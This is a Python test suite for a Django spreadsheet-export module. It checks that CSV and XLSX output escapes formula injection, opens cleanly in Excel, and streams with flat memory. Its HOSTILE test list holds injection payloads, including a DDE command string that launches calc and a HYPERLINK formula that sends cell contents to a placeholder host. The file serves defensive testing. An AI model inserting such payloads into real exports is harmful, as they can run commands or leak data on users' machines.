"""civic.exports: nothing becomes a formula, Excel opens it as it is, memory stays flat."""

import csv
import tracemalloc
from datetime import UTC, date, datetime
from io import BytesIO, StringIO
from xml.etree import ElementTree as ET
from zipfile import ZipFile

import pytest
from django.http import Http404
from hypothesis import given
from hypothesis import strategies as st

from civic.exports import BOM, Cell, Sheet, csv_chunks, harmless, sheet_response, write_xlsx

HOSTILE = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    "−1",
    " =1+1",
    "　=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\u202e=1+1",
    "﹦1+1",
    "=cmd|'/c calc'!A1",
    "|calc",
    '=HYPERLINK("http://example.invalid/?"&A1,"ここ")',
]
PEACEFUL = [
    "見本町一丁目自治会",
    "1-2-3",
    "083-000-0000",
    "a=b",
    "",
    "'引用",
    "10番1号（集会所）",
    "ー",
]
NAMESPACE = {"x": "http://schemas.openxmlformats.org/spreadsheetml/2006/main"}


def sheet(*rows: list[Cell]) -> Sheet:
    return Sheet("名前", ["団体", "額"], rows)


def as_csv(*rows: list[Cell]) -> str:
    return "".join(csv_chunks(sheet(*rows)))


def as_xlsx(*rows: list[Cell]) -> ET.Element:
    file = BytesIO()
    write_xlsx(sheet(*rows), file)
    with ZipFile(file) as parts:
        content = parts.read("xl/worksheets/sheet1.xml")
    return ET.fromstring(content)  # noqa: S314 - written by us  # noqa: S314 - our own


def texts(page: ET.Element) -> list[str]:
    return [node.text or "" for node in page.findall(".//x:is/x:t", NAMESPACE)]


@pytest.mark.parametrize("text", HOSTILE)
def test_a_hostile_name_is_text_in_csv(text):
    (_header, (cell, _yen)) = list(csv.reader(StringIO(as_csv([text, 1]), newline="")))
    assert cell == f"'{text}"


@pytest.mark.parametrize("text", HOSTILE)
def test_a_hostile_name_is_text_in_xlsx(text):
    page = as_xlsx([text, 1])
    assert page.findall(".//x:f", NAMESPACE) == []
    cell = page.find(".//x:c[@r='A2']", NAMESPACE)
    assert cell.get("t") == "inlineStr"


@pytest.mark.parametrize("text", PEACEFUL)
def test_an_honest_name_stays_as_it_is(text):
    assert harmless(text) == text
    (_header, (cell, _yen)) = list(csv.reader(StringIO(as_csv([text, 1]))))
    assert cell == text


@given(st.text(max_size=20))
def test_no_text_at_all_begins_a_formula(text):
    shown = harmless(text)
    assert shown[:1] not in {*"=+-@\t\r\n", "＝", "＋", "－", "＠"}
    assert shown in {text, f"'{text}"}


@given(st.text(alphabet=st.characters(exclude_categories=["Cs"]), max_size=20))
def test_every_text_comes_back_from_csv(text):
    (_header, (cell, _yen)) = list(csv.reader(StringIO(as_csv([text, 1]), newline="")))
    assert cell.removeprefix("'") == text.removeprefix("'")


def test_a_heading_is_no_formula_either():
    assert "'=SUM" in "".join(csv_chunks(Sheet("名前", ["=SUM(A1)"], [])))


def test_figures_days_and_moments():
    at = datetime(2026, 11, 23, 1, 0, tzinfo=UTC)
    shown = as_csv(["甲", -5000], ["乙", None], [date(2026, 11, 23), at])
    assert shown == (f"{BOM}団体,額\r\n甲,-5000\r\n乙,\r\n2026-11-23,2026-11-23 10:00\r\n")
    page = as_xlsx(["甲", -5000], ["乙", None])
    assert page.find(".//x:c[@r='B2']/x:v", NAMESPACE).text == "-5000"
    assert texts(page) == ["団体", "額", "甲", "乙"]


def test_excel_opens_the_csv_as_it_is():
    response = sheet_response(sheet(["甲", 1]), "csv")
    content = b"".join(response.streaming_content)
    assert content.startswith(b"\xef\xbb\xbf")
    assert "attachment" in response["Content-Disposition"]
    assert ".csv" in response["Content-Disposition"]


def test_no_other_kind():
    with pytest.raises(Http404):
        sheet_response(sheet(), "exe")


def test_rows_are_read_while_they_are_sent():
    read = []

    def rows():
        for number in range(1000):
            read.append(number)
            yield ["甲", number]

    chunks = csv_chunks(Sheet("名前", ["団体", "額"], rows()))
    next(chunks)
    assert 0 < len(read) < 1000


@pytest.mark.slow
@pytest.mark.django_db  # closing an answer looks after the connections
@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_memory_stays_flat_however_many_rows(kind):
    """50,000 rows hold no more than 5,000 do, give or take a megabyte."""
    few, many = (peak(kind, count) for count in (5_000, 50_000))
    assert many < few + 1_000_000


def peak(kind: str, count: int) -> int:
    """The most that was held at any moment, in bytes, with the answer sent and thrown away."""
    rows = (["見本町一丁目自治会" * 5, number] for number in range(count))
    tracemalloc.start()
    response = sheet_response(Sheet("名前", ["団体", "額"], rows), kind)
    for _chunk in response.streaming_content:
        pass
    response.close()
    _now, most = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    return most
